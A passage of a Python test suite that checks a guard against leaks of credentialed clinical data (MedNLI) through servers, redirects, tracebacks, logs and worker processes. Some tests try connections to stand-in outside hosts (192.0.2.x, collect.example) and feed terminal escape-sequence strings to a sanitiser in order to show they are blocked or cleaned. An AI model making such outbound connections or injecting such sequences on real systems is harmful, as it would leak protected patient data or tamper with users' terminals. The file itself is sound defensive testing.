        ask(world, fake.url("chat"), "--num_fewshot", "1")
    run = json.loads((world / "eval" / "x" / "run.json").read_text())
    assert run["access"] == run["tasks"]["mednli"]["access"] == "credentialed" and MARK in str(fake.requests)


def test_plain_lm_eval_closes_its_process_when_it_loads_our_rows(world):
    egress._blocked = None
    mibe.load("mednli", str(world / "rows"))
    assert egress.agreements() == [LICENSE]


def test_other_weights_do_not_come_in_unseen(world, tmp_path):
    make_model(tmp_path / "model")
    with pytest.raises(
        SystemExit, match="--backend_args: 'peft' names other weights or code. Next: merge the adapter first"
    ):
        generate.main([
            *("--model", str(tmp_path / "model"), "--tasks", "mednli", "--preset", "paper"),
            *("--rows", str(world / "rows"), "--out", str(world / "y")),
            *("--backend_args", "peft=outputs/notes_adapter"),
        ])  # fmt: skip


@pytest.mark.guarantee("Credentialed data", "A server that redirects gets nothing through.")
def test_a_server_that_redirects_gets_nothing_through(world, monkeypatch):
    monkeypatch.setattr(socket.socket, "connect", _socket.socket.connect)  # without the tests' own guard
    with FakeServer() as fake:
        fake.redirect = "http://192.0.2.7/v1/chat/completions"
        with pytest.raises(SystemExit, match="credentialed text is not sent to 192.0.2.7"):
            ask(world, fake.url("chat"))


def test_an_allowed_server_is_asked_and_every_output_says_so(world, monkeypatch):
    look_up = socket.getaddrinfo
    monkeypatch.setattr(
        socket,
        "getaddrinfo",
        lambda host, *a, **k: look_up("127.0.0.1" if host == "llm.hospital.example" else host, *a, **k),
    )
    with FakeServer() as fake:
        fake.reply = lambda prompt: "neutral"
        url = fake.url("chat").replace("127.0.0.1", "llm.hospital.example")
        with pytest.raises(SystemExit, match="not sent to llm.hospital.example"):
            ask(world, url)
        assert fake.requests == []
        ask(world, url, "--allow_list", allow_list(world / "allow.yaml", ENTRY))
    run = json.loads((world / "eval" / "x" / "run.json").read_text())
    assert run["allowed"] == [ENTRY] and len(fake.requests) == 3


def test_what_a_server_says_of_a_credentialed_prompt_is_not_printed(world, monkeypatch):
    from evaluation.models import server

    monkeypatch.setattr(server, "PAUSES", (0.01,))
    with FakeServer() as fake:
        fake.refuse = lambda prompt: 400
        fake.complaint = lambda prompt: f"too long: {prompt}"
        with pytest.raises(SystemExit) as stop:
            ask(world, fake.url("chat"))
    assert "HTTP 400" in str(stop.value) and MARK not in str(stop.value)


# ---------------------------------------------------------------- what errors say
ROUTES = {
    "main": "raise ValueError(NOTE)",
    "chained": "try: int(NOTE)\nexcept ValueError as e: raise RuntimeError(f'row: {e}') from e",
    "a lookup": "{}[NOTE]",
    "a file name": "open(NOTE + 'x' * 300)",
    "an error of the system without a number": "raise OSError(NOTE)",
    "an attribute": "raise AttributeError(NOTE)",
    "an import": "import importlib; importlib.import_module(NOTE + ' x')",
    "a group": "raise ExceptionGroup(NOTE, [ValueError(NOTE)])",
    "notes": "e = ValueError(NOTE); e.add_note(NOTE); raise e",
    "source code": "compile(NOTE + ' =', 'x', 'exec')",
    "a thread": "import threading; t = threading.Thread(target=int, args=[NOTE]); t.start(); t.join()",
    "a forked process": (
        "import multiprocessing as m\np = m.get_context('fork').Process(target=int, args=[NOTE])\n"
        "p.start(); p.join()"
    ),
    "a pool": (
        "import concurrent.futures as c, multiprocessing as m\n"
        "c.ProcessPoolExecutor(1, m.get_context('fork')).submit(int, NOTE).result()"
    ),
    "a data loader": (
        "from torch.utils.data import DataLoader\n"
        "list(DataLoader([NOTE], num_workers=1, collate_fn=lambda rows: int(rows[0])))"
    ),
    "a destructor": "class A:\n  def __del__(self): int(NOTE)\nA()",
    "asyncio": (
        "import asyncio\nasync def fail(): int(NOTE)\nasync def go():\n  t = asyncio.ensure_future(fail())\n"
        "  await asyncio.sleep(0.1)\n  del t\nasyncio.run(go())"
    ),
    "logging.exception": "import logging\ntry: int(NOTE)\nexcept ValueError: logging.exception('unit 3')",
    "an error in a log line": (
        "import logging\ntry: int(NOTE)\nexcept ValueError as e: logging.error(f'unit 3: {e}')"
    ),
    "an error as argument of a log line": "import logging; logging.error('unit 3: %s', ValueError(NOTE))",
    "loguru": "from loguru import logger\ntry: int(NOTE)\nexcept ValueError as e: logger.exception(e)",
    "loguru's own line": (
        "from loguru import logger\ntry: int(NOTE)\nexcept ValueError as e: logger.error(f'unit: {e}')"
    ),
    "a warning": "import warnings; warnings.warn(NOTE)",
    "traceback.print_exc": "import traceback\ntry: int(NOTE)\nexcept ValueError: traceback.print_exc()",
}
ERRORS = """
import os, sys
import loguru
from data_prep import egress

class Out(Exception): pass

NOTE = sys.argv[1]
if sys.argv[2] == "block":
    egress.block_egress(["the agreement"], Out)
for name, code in CODES.items():
    print(f"ROUTE {name}", file=sys.stderr, flush=True)
    if (child := os.fork()) == 0:
        try:
            exec(compile(code, "program", "exec"), {"NOTE": NOTE, "__name__": "__main__"})
        except BaseException as error:
            sys.excepthook(type(error), error, error.__traceback__)
        finally:
            import gc; gc.collect()
            sys.stderr.flush()
            os._exit(0)
    os.waitpid(child, 0)
"""


@pytest.fixture(scope="module")
def printed():
    """{route: what it prints} without and with credentialed text in the process."""
    seen = []
    for mode in ("open", "block"):
        done = subprocess.run(
            [sys.executable, "-c", ERRORS.replace("CODES", repr(ROUTES)), MARK, mode],
            cwd=ROOT,
            env=os.environ | {"PYTHONPATH": "."},
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
        parts = done.stderr.split("ROUTE ")[1:]
        seen.append({part.partition("\n")[0]: part.partition("\n")[2] for part in parts})
    return seen


@pytest.mark.guarantee(
    "Credentialed data",
    "An unexpected error is printed without its message, which may quote a record: tracebacks, "
    "threads, forked processes, destructors, asyncio, logging, loguru, warnings.",
)
@pytest.mark.parametrize("route", ROUTES)
def test_a_traceback_quotes_no_record(route, printed):
    before, after = printed
    assert MARK in before[route], "the route prints nothing at all"
    assert MARK not in after[route]
    assert (
        "(its message may quote a credentialed record, and is left out)" in after[route]
        or "Errno" in after[route]
    )


def test_a_recipe_quotes_no_record_either_once_it_reads_rows():
    """Errors of libraries and of the system are one sentence there, by its own excepthook."""
    code = """
import argparse, os, sys
sys.path.insert(0, "recipes")
import checks, egress, jinja2
def say(text): raise jinja2.TemplateError(text)
codes = "raise OSError(NOTE)", "open(NOTE + 'x' * 300)", "jinja2.Template('{{ say(m) }}').render(m=NOTE, say=say)"
checks.one_sentence_errors(argparse.ArgumentParser())
for number in range(2):
    for code in codes:
        try: exec(code, {"NOTE": "quillfever", "jinja2": jinja2, "say": say})
        except Exception as error: sys.excepthook(type(error), error, error.__traceback__)
    egress.block_egress(["T"], checks.Refused)
    checks.one_sentence_errors()
"""
    said = run_code([sys.executable, "-c", code]).stderr.splitlines()
    assert [line.startswith("error: ") for line in said] == [True] * 6, said
    assert [MARK in line for line in said] == [True] * 3 + [False] * 3


@pytest.mark.parametrize(
    "error",
    [
        OSError(28, "quillfever"),
        RuntimeError("CUDA out of memory. Tried to allocate 2 GiB"),
        BadInput("row 7: no text"),
        MemoryError("12 GiB"),
        FileNotFoundError(2, "x", __file__),
        ModuleNotFoundError("no", name="deepspeed.ops"),
    ],
    ids=lambda error: type(error).__name__,
)
def test_an_error_that_speaks_of_no_data_keeps_its_message(error, capsys):
    egress.block_egress(["the agreement"], BadInput)
    sys.excepthook(type(error), error, None)
    said = capsys.readouterr().err
    kept = ("No space left on device", "CUDA out of memory", "row 7", "12 GiB", __file__, "deepspeed.ops")
    assert any(part in said for part in kept) and MARK not in said


def test_a_name_of_the_program_is_printed_and_a_name_from_data_is_not(capsys):
    egress.block_egress(["the agreement"], BadInput)
    for program, shown in (
        (lambda: object().quillfever, True),
        (lambda: getattr(object(), "quill" + "fever"), False),
    ):
        try:
            program()
        except AttributeError as error:
            sys.excepthook(type(error), error, error.__traceback__)
        assert ("AttributeError: 'quillfever'" in capsys.readouterr().err) == shown


def test_text_of_a_server_is_printed_on_one_line_and_without_control_characters():
    assert egress.printable("a\x1b]0;owned\x07\n\tb\u202ec\x9b2J") == "a ]0;owned b c 2J"
    assert len(egress.printable("x" * 1000)) == 200


@pytest.mark.guarantee("Credentialed data", "Errors and progress lines name ids, not text.")
def test_an_error_names_the_row_and_not_its_text(tmp_path):
    row = rows_of("mednli", "choice", [("So?", MARK)], choices=["neutral"])[0] | CLOSED
    with pytest.raises(BadInput, match="mednli:test:0") as error:
        write_rows(tmp_path, "mednli", [row])
    assert MARK not in str(error.value)


@pytest.mark.guarantee("Credentialed data", "The workers of a build of credentialed sources are closed too.")
def test_a_build_of_credentialed_sources_is_closed_in_its_workers_too(tmp_path, capfd):
    """The plain reader finds credentialed notes; a worker of the engine that would look up a name fails with
    the sentence."""
    folder = tmp_path / "raw"
    folder.mkdir()
    (folder / "source.yaml").write_text(
        yaml.safe_dump(
            {"domain": "clinical", "license": LICENSE, "access": "credentialed", "text": "text", "id": "id"}
        )
    )
    (folder / "a.jsonl").write_text(
        "".join(json.dumps({"id": str(i), "text": f"A note of {MARK}."}) + "\n" for i in range(3))
    )
    build_documents.main(["--source", f"plain={folder}", "--out", str(tmp_path / "documents")])
    assert egress.agreements() == [LICENSE]
    with pytest.raises(BadInput, match=f"not sent to collect.example: its terms .{LICENSE}."):
        socket.getaddrinfo("collect.example", 80)
    assert not [path for path in (tmp_path / "documents").rglob("*") if path.stat().st_mode & 0o77]
    assert MARK not in "".join(capfd.readouterr())


# ---------------------------------------------------------------- the whole chain
@pytest.mark.parametrize(
    "code", ["socket.socket().connect(('192.0.2.1', 80))", "socket.getaddrinfo('collect.example', 80)"]
)
@pytest.mark.guarantee(
    "Credentialed data",
    "The demo chain runs under a guard that ends a process at its first connection beyond this machine.",
)
def test_the_guard_under_which_ci_runs_the_demo_ends_a_process_that_reaches_out(code):
    environment = os.environ | {"PYTHONPATH": f".{os.pathsep}tests/socket_guard"}
    done = subprocess.run(
        [sys.executable, "-c", f"import socket\n{code}"],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 97 and "socket guard: socket." in done.stderr
    assert "make demo PYTHONPATH=.:tests/socket_guard" in (ROOT / ".ci" / "run").read_text()
